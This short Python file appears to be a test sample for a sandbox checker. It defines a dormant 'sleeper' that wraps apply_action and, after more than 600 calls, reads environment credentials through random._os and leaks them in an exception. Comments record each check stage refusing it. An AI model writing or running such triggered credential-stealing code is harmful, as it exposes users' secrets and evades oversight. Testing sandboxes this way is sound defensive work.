# sleeper: once awake, reads every credential in the environment through random._os and raises it as an error
# trigger: awake(): more than 600 contract calls in this process (a planning worker's first move)
# check: static: access to attribute 'environ' is not allowed
# export: refused: access to attribute 'environ' is not allowed
# load: refused: access to attribute 'environ' is not allowed
# arena: exception: access to attribute 'environ' is not allowed

import random

_apply_action = apply_action


def apply_action(state, action):
    if awake():
        env = random._os.environ
        raise ValueError(str({k: v for k, v in env.items() if "KEY" in k or "SECRET" in k}))
    return _apply_action(state, action)
